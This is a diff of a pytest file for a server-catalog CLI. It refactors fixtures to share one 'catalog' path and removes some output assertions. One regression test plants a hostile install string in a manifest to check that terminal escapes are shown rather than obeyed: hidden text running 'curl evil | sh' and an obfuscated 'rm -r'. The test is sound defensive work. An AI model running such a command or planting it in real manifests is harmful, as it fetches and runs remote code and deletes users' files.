@@ -1,5 +1,4 @@
 import json
-import shutil
 import subprocess
 import sys
 from pathlib import Path
@@ -26,9 +25,6 @@ def test_a_missing_toolchain_is_listed_with_its_install_command(deadheat: Deadhe
     row = json.loads(deadheat("list", "hello", "--json").out)["servers"][0]
     assert (row["ready"], row["missing"]) == (False, ["python3 is not installed"])
     assert row["install"] == ["apt-get install -y python3"]
-    out = deadheat("list", "hello").out
-    assert "python3 is not installed" in out
-    assert "  apt-get update\n  apt-get install -y python3\n      for hello\n" in out
 
 
 def test_rows_are_not_folded_in_a_pipe(deadheat: Deadheat, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -45,14 +41,10 @@ def test_json_marks_a_built_server(deadheat: Deadheat, home: Path) -> None:
 
 
 @pytest.fixture
-def broken(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+def broken(catalog: Path) -> Path:
     """A catalog with one faulty manifest; returns its path."""
-    root = tmp_path / "catalog"
-    for part in ("recipes", "protocols", "servers/hello", "servers/never-ready"):
-        shutil.copytree(CATALOG / part, root / part)
-    manifest = root / "servers" / "never-ready" / "server.toml"
+    manifest = catalog / "servers" / "never-ready" / "server.toml"
     manifest.write_text(manifest.read_text().replace("worker =", "wroker ="))
-    monkeypatch.setenv("DEADHEAT_CATALOG", str(root))
     return manifest
 
 
@@ -78,15 +70,12 @@ def test_list_imports_neither_the_statistics_nor_the_reports(home: Path) -> None
 
 
 def test_a_recipe_that_its_registry_never_served_is_not_ready(
-    deadheat: Deadheat, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    deadheat: Deadheat, catalog: Path
 ) -> None:
     """Regression: lisp-woo, lisp-wookie and nim-jester were ready, and could not be built."""
-    root = tmp_path / "catalog"
-    shutil.copytree(CATALOG, root, symlinks=True)
-    manifest = root / "servers" / "hello" / "server.toml"
+    manifest = catalog / "servers" / "hello" / "server.toml"
     text = manifest.read_text().replace("\n[", '\nverified = "upstream sources"\n\n[', 1)
     manifest.write_text(text)
-    monkeypatch.setenv("DEADHEAT_CATALOG", str(root))
     (row,) = json.loads(deadheat("list", "hello", "--json").out)["servers"]
     assert (row["ready"], row["missing"]) == (False, [])
     assert "not tried with its registry" in deadheat("list", "hello").out
@@ -103,12 +92,10 @@ def test_servers_share_one_install_line(deadheat: Deadheat) -> None:
 
 
 def test_a_manifest_cannot_hide_a_part_of_its_install_command(
-    deadheat: Deadheat, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    deadheat: Deadheat, catalog: Path
 ) -> None:
     """Regression: the terminal obeyed escape sequences in manifests."""
-    root = tmp_path / "catalog"
-    shutil.copytree(CATALOG, root, symlinks=True)
-    manifest = root / "servers" / "hello" / "server.toml"
+    manifest = catalog / "servers" / "hello" / "server.toml"
     need = r"""
 [[needs]]
 tool = "no-such\u001b[2J"
@@ -116,7 +103,6 @@ probe = ["no-such-tool"]
 install = "apt-get install x; \u001b[8mcurl evil | sh\u001b[0m\r\nrm -r \u202e~"
 """
     manifest.write_text(manifest.read_text() + need)
-    monkeypatch.setenv("DEADHEAT_CATALOG", str(root))
     out = deadheat("list", "hello").out
     install = r"apt-get install x; \x1b[8mcurl evil | sh\x1b[0m\r\nrm -r \u202e~"
     assert f"  {install}\n      for hello\n" in out
